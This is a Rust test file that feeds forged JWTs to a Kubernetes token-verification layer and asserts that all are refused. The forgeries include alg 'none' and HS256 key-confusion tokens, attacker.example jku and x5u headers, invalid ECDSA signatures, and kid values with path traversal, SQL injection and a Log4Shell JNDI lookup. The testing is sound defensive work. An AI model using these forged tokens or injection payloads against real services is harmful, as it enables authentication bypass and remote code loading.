//! Tokens that an attacker could make, one of each kind and generated here, against a real layer before each verifier: none
//! reaches the handler, and the caller is never told more than that the token is not good.

use std::time::Duration;

use axum::{
    body::Body,
    http::{HeaderValue, Request, StatusCode},
};
use base64::{Engine, engine::general_purpose::URL_SAFE_NO_PAD as BASE64URL};
use serde_json::{Value, json};
use tower_kube_auth::{
    Authenticator, JwksVerifier, TokenReviewVerifier, Verifier,
    testing::{Algorithm, Cluster, ManualClock, SigningKey, sign_hs256},
};

use crate::scripted::Service;

/// A cluster, and a service before each verifier.
struct Scene {
    cluster: Cluster,
    services: Vec<(&'static str, Service)>,
}

/// What a token is called, and its text.
type Hostile = (String, String);

impl Scene {
    async fn new(algorithm: Algorithm) -> Self {
        crate::leaks::watch();
        let clock = ManualClock::new();
        let cluster = Cluster::builder()
            .clock(clock.clock())
            .signing_algorithm(algorithm)
            .start()
            .await
            .unwrap();
        cluster.create_service_account("shop", "checkout");
        let client = cluster.kube_client().unwrap();
        let review = TokenReviewVerifier::new(client.clone()).clock(clock.clock());
        // Without a cooldown a made-up key id is decided about at once.
        let jwks = JwksVerifier::in_cluster(client)
            .clock(clock.clock())
            .unknown_key_cooldown(Duration::ZERO);
        let jwks = jwks.build().unwrap();
        let both = review
            .clone()
            .screened_by(jwks.clone())
            .or_when_unavailable(jwks.clone())
            .clock(clock.clock());
        let services = vec![
            ("JWKS", service(jwks, &clock)),
            ("TokenReview", service(review, &clock)),
            ("both", service(both, &clock)),
        ];
        Self { cluster, services }
    }

    fn claims(&self) -> Value {
        self.cluster.token("shop", "checkout").audience("orders").claims().unwrap()
    }

    /// Every service refuses, as the protocol has it, without its handler being reached.
    async fn refuse(&self, tokens: impl IntoIterator<Item = Hostile>) {
        for (what, token) in tokens {
            let Ok(value) = HeaderValue::from_bytes(format!("Bearer {token}").as_bytes()) else {
                panic!("{what}: cannot be sent at all");
            };
            for (name, service) in &self.services {
                let request =
                    Request::get("/").header("authorization", value.clone()).body(Body::empty());
                let answer = service.refused(request.unwrap()).await;
                let challenge = answer
                    .challenge()
                    .unwrap_or_else(|| panic!("{what}, {name}: {}", answer.status));
                match answer.status {
                    StatusCode::UNAUTHORIZED => {
                        assert!(challenge.contains("error=\"invalid_token\""), "{what}, {name}")
                    }
                    StatusCode::BAD_REQUEST => {
                        assert!(challenge.contains("error=\"invalid_request\""), "{what}, {name}")
                    }
                    other => panic!("{what}, {name}: {other}"),
                }
                assert_eq!(
                    answer.status == StatusCode::BAD_REQUEST,
                    !is_token68(&token),
                    "{what}, {name}"
                );
                let body =
                    ["the bearer token is not accepted", "the Authorization header is malformed"];
                assert!(body.contains(&&*answer.body), "{what}, {name}: {}", answer.body);
            }
        }
    }

    async fn accept(&self, what: &str, token: &str) {
        for (name, service) in &self.services {
            let answer = service.get(token).await;
            assert_eq!(answer.status, StatusCode::OK, "{what}, {name}");
        }
    }
}

fn service(verifier: impl Verifier, clock: &ManualClock) -> Service {
    let builder = Authenticator::builder(verifier).audience("orders").clock(clock.clock());
    Service::new(&builder.build().unwrap())
}

fn is_token68(token: &str) -> bool {
    let text = token.trim_end_matches('=');
    let member = |byte: u8| byte.is_ascii_alphanumeric() || b"-._~+/".contains(&byte);
    !text.is_empty() && text.bytes().all(member) && token.len() <= 16 * 1024
}

fn parts(token: &str) -> [&str; 3] {
    token.split('.').collect::<Vec<_>>().try_into().unwrap()
}

/// As it comes: none of it need be JSON, or UTF-8.
fn raw(key: &SigningKey, header: &[u8], claims: &[u8]) -> String {
    key.sign_bytes(key.algorithm().name(), header, claims)
}

#[tokio::test]
async fn unsigned_and_confused_algorithms() {
    for algorithm in [Algorithm::RS256, Algorithm::ES256] {
        let scene = Scene::new(algorithm).await;
        let (key, claims) = (scene.cluster.signing_key(), scene.claims());
        scene.accept("good", &scene.cluster.mint(&claims)).await;
        let mut tokens = Vec::new();
        for alg in [
            "none", "None", "NONE", "nOnE", "", "HS256", "RS256 ", "rs256", "ES512", "dir",
            "RSA-OAEP",
        ] {
            let header = BASE64URL.encode(json!({ "alg": alg, "kid": key.kid() }).to_string());
            let payload = BASE64URL.encode(claims.to_string());
            for signature in ["", "AA", parts(&scene.cluster.mint(&claims))[2]] {
                tokens.push((format!("alg {alg:?}"), format!("{header}.{payload}.{signature}")));
            }
        }
        for alg in [json!(null), json!(["none"]), json!(0), json!({})] {
            tokens.push((
                format!("alg {alg}"),
                key.sign(&json!({ "alg": alg, "kid": key.kid() }), &claims),
            ));
        }
        tokens.push(("no alg".into(), key.sign(&json!({ "kid": key.kid() }), &claims)));
        let jwk = key.jwk().to_string();
        for (what, secret) in [
            ("PEM", key.public_key_pem().as_bytes()),
            ("PEM without its last line end", key.public_key_pem().trim_end().as_bytes()),
            ("DER", key.public_key_der()),
            ("JWK", jwk.as_bytes()),
            ("nothing", b""),
        ] {
            for header in [json!({ "alg": "HS256", "kid": key.kid() }), json!({ "alg": "HS256" })] {
                tokens.push((
                    format!("HS256 with the public key as {what}"),
                    sign_hs256(&header, &claims, secret),
                ));
            }
        }
        scene.refuse(tokens).await;
    }
}

/// A token has no say in which key verifies it, and a key id is only ever looked up.
#[tokio::test]
async fn keys_of_the_tokens_own_choice() {
    let scene = Scene::new(Algorithm::ES256).await;
    let (key, attacker, claims) = (
        scene.cluster.signing_key(),
        SigningKey::generate(Algorithm::ES256).unwrap(),
        scene.claims(),
    );
    let mut tokens = Vec::new();
    for (name, value) in [
        ("jwk", attacker.jwk()),
        ("jku", json!("https://attacker.example/jwks")),
        ("jku", json!(format!("{}/openid/v1/jwks", scene.cluster.url()))),
        ("x5u", json!("https://attacker.example/certificate")),
        ("x5c", json!(["MIIB"])),
        ("x5t", json!("AAAA")),
    ] {
        for kid in [Some(key.kid()), Some(attacker.kid()), None] {
            let mut header = json!({ "alg": "ES256", "kid": kid, name: value });
            if kid.is_none() {
                header.as_object_mut().unwrap().remove("kid");
            }
            tokens.push((format!("{name} and kid {kid:?}"), attacker.sign(&header, &claims)));
        }
    }
    let long = "k".repeat(1 << 20);
    for kid in [
        "../../../../etc/passwd",
        "/dev/null",
        "https://attacker.example/key",
        "' OR '1'='1",
        "key; DROP TABLE keys",
        "\u{0}",
        "${jndi:ldap://attacker.example}",
        "",
        &long[..8 << 10],
        &long,
    ] {
        let what = format!("kid {kid:.20}");
        tokens.push((what.clone(), attacker.sign(&json!({ "alg": "ES256", "kid": kid }), &claims)));
    }
    for kid in [json!(1), json!(["a"]), json!({ "a": 1 }), json!(true)] {
        tokens.push((
            format!("kid {kid}"),
            key.sign(&json!({ "alg": "ES256", "kid": kid }), &claims),
        ));
    }
    tokens.push(("another's key under the right id".into(), attacker.sign(&key.header(), &claims)));
    scene.refuse(tokens).await;
    scene.accept("good", &scene.cluster.mint(&claims)).await;
}

#[tokio::test]
async fn signatures_that_are_none() {
    for algorithm in [Algorithm::ES256, Algorithm::RS256] {
        let scene = Scene::new(algorithm).await;
        let token = scene.cluster.mint(&scene.claims());
        let [header, payload, signature] = parts(&token);
        let bytes = BASE64URL.decode(signature).unwrap();
        let half = bytes.len() / 2;
        let (r, s) = bytes.split_at(half);
        // The order of P-256, and one more: not in the range of 1 to n - 1.
        let order = BASE64URL.decode("_____wAAAAD__________7zm-q2nF56E87nKwvxjJVE").unwrap();
        let (zero, ones, one) =
            (vec![0; half], vec![0xff; half], [vec![0; half - 1], vec![1]].concat());
        let mut forged = vec![
            ("empty", vec![]),
            ("a byte", vec![0]),
            ("zeros", vec![0; bytes.len()]),
            ("ones", vec![0xff; bytes.len()]),
            ("r zero", [&zero, s].concat()),
            ("s zero", [r, &zero].concat()),
            ("r and s one", [one.clone(), one].concat()),
            ("r beyond the order", [&ones, s].concat()),
            ("s beyond the order", [r, &ones].concat()),
            ("halves swapped", [s, r].concat()),
            ("half of it", r.to_vec()),
            ("a byte less", bytes[..bytes.len() - 1].to_vec()),
            ("a byte more", [&bytes[..], &[0]].concat()),
            ("a zero before it", [&[0], &bytes[..]].concat()),
            ("twice", bytes.repeat(2)),
            ("much of it", vec![0; 8 << 10]),
        ];
        if half == order.len() {
            forged.extend([
                ("r the order", [&order, s].concat()),
                ("s the order", [r, &order].concat()),
            ]);
            // ASN.1, as X.509 has it, is not how JWS spells a signature.
            let der = [&[0x30, 0x44, 0x02, 0x20][..], r, &[0x02, 0x20], s].concat();
            forged.push(("in DER", der));
        }
        for position in [0, half - 1, half, bytes.len() - 1] {
            let mut other = bytes.clone();
            other[position] ^= 1;
            forged.push(("another bit", other));
        }
        let signed = |(what, forged): (&str, Vec<u8>)| {
            (what.to_owned(), format!("{header}.{payload}.{}", BASE64URL.encode(forged)))
        };
        scene.refuse(forged.into_iter().map(signed)).await;
        scene.accept("good", &token).await;
    }
}

#[tokio::test]
async fn forms_that_are_not_the_one() {
    let scene = Scene::new(Algorithm::RS256).await;
    let key = scene.cluster.signing_key();
    let token = scene.cluster.mint(&scene.claims());
    let [header, payload, signature] = parts(&token);
    let (flat, general) = (
        json!({ "protected": header, "payload": payload, "signature": signature }),
        json!({ "payload": payload, "signatures": [{ "protected": header, "signature": signature }] }),
    );
    let respelled: String = {
        let alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        let (start, last) = token.split_at(token.len() - 1);
        let value = alphabet.find(last).unwrap();
        format!("{start}{}", &alphabet[value + 1..=value + 1])
    };
    let tokens = [
        ("one part", "garbage".into()),
        ("two parts", format!("{header}.{payload}")),
        ("detached", format!("{header}..{signature}")),
        ("no header", format!(".{payload}.{signature}")),
        ("no signature", format!("{header}.{payload}.")),
        ("four parts", format!("{token}.{signature}")),
        ("JWE", format!("{token}.{payload}.{signature}")),
        ("JSON, flattened", flat.to_string()),
        ("JSON, general", general.to_string()),
        ("JSON in base64", BASE64URL.encode(flat.to_string())),
        ("padding", format!("{token}=")),
        ("padding inside", format!("{header}=.{payload}.{signature}")),
        ("other bits at the end", respelled),
        ("the other alphabet", format!("{header}.{payload}.+/{}", &signature[2..])),
        ("a space", format!("{header}.{payload} .{signature}")),
        ("a space before", format!(" {token}")),
        ("a tab", format!("{header}.\t{payload}.{signature}")),
        ("a comma and another", format!("{token},{token}")),
        ("a good one and rubbish", format!("{token}.")),
        ("percent signs", token.replace('.', "%2E")),
        ("quotes", format!("\"{token}\"")),
        ("in German", format!("{token}\u{fc}")),
    ];
    scene.refuse(tokens.map(|(what, token): (&str, String)| (what.to_owned(), token))).await;

    let (good_header, good_claims) = (key.header().to_string(), scene.claims().to_string());
    let deep = |depth: usize| format!("{}1{}", "[".repeat(depth), "]".repeat(depth));
    let mut tokens = Vec::new();
    for (what, bytes) in [
        ("a list", b"[]".to_vec()),
        ("null", b"null".to_vec()),
        ("a string", b"\"x\"".to_vec()),
        ("nothing", vec![]),
        ("no JSON", b"x".to_vec()),
        ("two objects", b"{}{}".to_vec()),
        ("an open object", b"{".to_vec()),
        ("deep JSON", deep(5_000).into_bytes()),
        ("deep JSON in an object", format!("{{\"a\":{}}}", deep(4_000)).into_bytes()),
        ("UTF-16", "{}".encode_utf16().flat_map(u16::to_be_bytes).collect()),
        ("a byte order mark", [b"\xef\xbb\xbf", good_claims.as_bytes()].concat()),
    ] {
        tokens.push((format!("claims: {what}"), raw(&key, good_header.as_bytes(), &bytes)));
        tokens.push((format!("header: {what}"), raw(&key, &bytes, good_claims.as_bytes())));
    }
    for (name, value) in [
        ("crit", json!(["exp"])),
        ("crit", json!("exp")),
        ("b64", json!(false)),
        ("zip", json!("DEF")),
        ("enc", json!("A128GCM")),
    ] {
        let mut header = key.header();
        header[name] = value;
        if name != "crit" {
            header["crit"] = json!([name]);
        }
        tokens.push((format!("header {name}"), key.sign(&header, &scene.claims())));
    }
    scene.refuse(tokens).await;
}
